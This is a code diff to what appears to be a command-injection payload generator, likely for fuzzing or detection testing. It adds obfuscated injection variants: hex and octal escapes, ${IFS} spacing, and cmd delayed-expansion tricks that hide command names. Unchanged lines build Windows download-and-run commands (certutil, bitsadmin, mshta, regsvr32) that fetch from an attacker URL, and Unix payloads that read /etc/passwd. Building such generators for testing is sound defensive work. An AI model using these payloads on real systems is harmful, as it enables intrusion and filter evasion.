@@ -59,9 +59,15 @@ function substitution(random: Random): string {
     case 5:
       return `${lead}${pick([';', '|', '&&', '||', '\n', '&'], random)}${pick(['eval', 'exec', 'sh -c', 'bash -c'], random)} ${pick(["'", '"'], random)}${inner}${pick(["'", '"'], random)}`;
     case 6:
-      return `${lead}$(printf '${[...pick(['id', 'whoami', 'uname -a', 'cat /etc/passwd'], random)].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}')`;
-    case 7:
-      return `${lead}$'${[...pick(['id', 'whoami', 'sh'], random)].map((c) => `\\${c.charCodeAt(0).toString(8)}`).join('')}'`;
+      return `${lead}$(printf '${[...unixCommand(random)].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}')`;
+    case 7: {
+      // ANSI-C quoting spells the command in octal escapes, whole or only some characters.
+      const octal = (c: string): string => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`;
+      const [word, ...args] = random() < 0.3 ? [pick(['sh', 'bash'], random)] : unixCommand(random).split(' ');
+      const some = [...word].map((c) => (random() < 0.6 ? octal(c) : c)).join('');
+      const rest = args.length > 0 ? `${pick([' ', '${IFS}'], random)}${args.join(' ')}` : '';
+      return `${lead}$'${random() < 0.5 || !some.includes('\\') ? [...word].map(octal).join('') : some}'${rest}`;
+    }
     case 8:
       return `${lead}${pick([';', '|', '\n'], random)}x=${pick(['who', 'i', 'un'], random)};y=${pick(['ami', 'd', 'ame'], random)};$x$y`;
     default:
@@ -113,8 +119,13 @@ function cmdWindows(random: Random): string {
       return `${lead}${sep}cmd${pick(['', '.exe'], random)} /${pick(['c', 'C', 'k'], random)} ${pick(['', '"'], random)}${caret(cmd)}`;
     case 2:
       return `${lead}${sep}%COMSPEC% /c ${cmd}`;
-    case 3:
-      return `${lead}${sep}cmd /v:on /c "set a=who&&set b=ami&&call !a!!b!"`;
+    case 3: {
+      // Delayed expansion assembles the command from variables, so the command name is never written.
+      const [head, ...args] = cmd.split(' ');
+      const cut = int(random, 1, Math.max(1, head.length - 1));
+      const [a, b] = [pick(['a', 'x', 'c', 'p', 'q', 'v1', 'i'], random), pick(['b', 'y', 'd', 'k', 'z', 'v2', 'j'], random)];
+      return `${lead}${sep}cmd${pick(['', '.exe'], random)} /v:on /c "set ${a}=${head.slice(0, cut)}&&set ${b}=${head.slice(cut)}&&${pick(['call ', ''], random)}!${a}!!${b}!${args.length ? ` ${args.join(' ')}` : ''}"`;
+    }
     case 4:
       return `${lead}${sep}%${pick(['ProgramData', 'CommonProgramFiles', 'SystemRoot'], random)}:~${int(random, 0, 2)},1%${pick(['md', 'cmd'], random)} /c ${cmd}`;
     case 5:
@@ -122,7 +133,7 @@ function cmdWindows(random: Random): string {
     case 6:
       return `${lead}${sep}${pick([`certutil -urlcache -split -f ${attackerUrl(random)} %TEMP%\\x.exe`, `bitsadmin /transfer j /download ${attackerUrl(random)} %TEMP%\\x.exe`, `mshta ${attackerUrl(random)}x.hta`, `rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)`, `regsvr32 /s /n /u /i:${attackerUrl(random)}x.sct scrobj.dll`], random)}`;
     default:
-      return `${lead}${sep}"${caret('whoami')}"`;
+      return `${lead}${sep}"${caret(cmd.split(' ')[0])}"`;
   }
 }
 
